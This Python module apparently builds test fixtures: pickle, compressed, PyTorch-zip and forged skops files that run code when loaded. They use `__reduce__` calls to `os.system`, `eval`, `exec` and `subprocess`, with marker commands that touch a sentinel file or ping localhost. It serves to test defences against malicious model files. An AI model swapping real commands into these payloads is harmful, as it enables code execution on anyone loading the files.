"""Artefacts that attack whoever opens them: what they try, and the containers they come in. Inert until opened.

Each payload, run anywhere it can, leaves a mark: a file at ``sentinel``, or a connection to ``port``.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any


class Call:
    """Pickles to the call of a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._called = (function, arguments)

    def __reduce__(self) -> tuple[Any, ...]:
        return self._called


def payloads(sentinel: Path, port: int) -> dict[str, Call]:
    """Return one program for each way of leaving a mark."""
    import os
    import subprocess

    touch = f"touch {sentinel}"
    connect = f"import socket; socket.create_connection(('127.0.0.1', {port}), 2).send(b'x')"
    thread = f"import threading; threading.Thread(target=open, args=({str(sentinel)!r}, 'w')).start()"
    library = f"import ctypes; ctypes.CDLL(None).system({touch!r}.encode())"
    return {
        "shell": Call(os.system, touch),
        "program": Call(subprocess.check_output, ["touch", str(sentinel)]),
        "file": Call(open, str(sentinel), "w"),
        "eval": Call(eval, f"__import__('pathlib').Path({str(sentinel)!r}).touch()", {}),
        "exec": Call(exec, f"import os; os.mkdir({str(sentinel)!r})", {}),
        "connection": Call(exec, connect, {}),
        "thread": Call(exec, thread, {}),
        "library": Call(exec, library, {}),
    }


def artefacts(sentinel: Path, port: int) -> Iterator[tuple[str, bytes]]:
    """Yield a name and a file for every payload in every container."""
    for name, call in payloads(sentinel, port).items():
        for protocol in (2, 4, 5):
            yield f"{name} in pickle {protocol}", pickle.dumps(call, protocol)
        whole = pickle.dumps(call, 4)
        yield f"{name} in zlib", zlib.compress(whole)
        yield f"{name} in gzip", gzip.compress(whole)
        yield f"{name} in bz2", bz2.compress(whole)
        yield f"{name} in xz", lzma.compress(whole)
        yield f"{name} in a state dict", archive({"m/data.pkl": whole, "m/version": b"3", "m/byteorder": b"little"})
        yield f"{name} in TorchScript", archive({"m/data.pkl": whole, "m/constants.pkl": whole, "m/code/a.py": b""})
    for function in ("os.system", "builtins.eval", "subprocess.check_output", "operator.methodcaller"):
        yield f"{function} in skops", forged_skops(function, f"touch {sentinel}")


def archive(members: dict[str, bytes]) -> bytes:
    """Return a zip of ``members``, stored as torch stores them."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return target.getvalue()


def forged_skops(function: str, argument: str) -> bytes:
    """Return a skops file whose schema names a function to be called."""
    module, _, name = function.rpartition(".")
    node = {
        "__class__": name,
        "__module__": module,
        "__loader__": "ObjectNode",
        "__reduce__": {"args": {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
                                "content": json.dumps(argument), "is_json": True}},
        "__id__": 1,
        "content": None,
        "protocol": 2,
        "_skops_version": "0.13.0",
    }  # fmt: skip
    return archive({"schema.json": json.dumps(node).encode()})
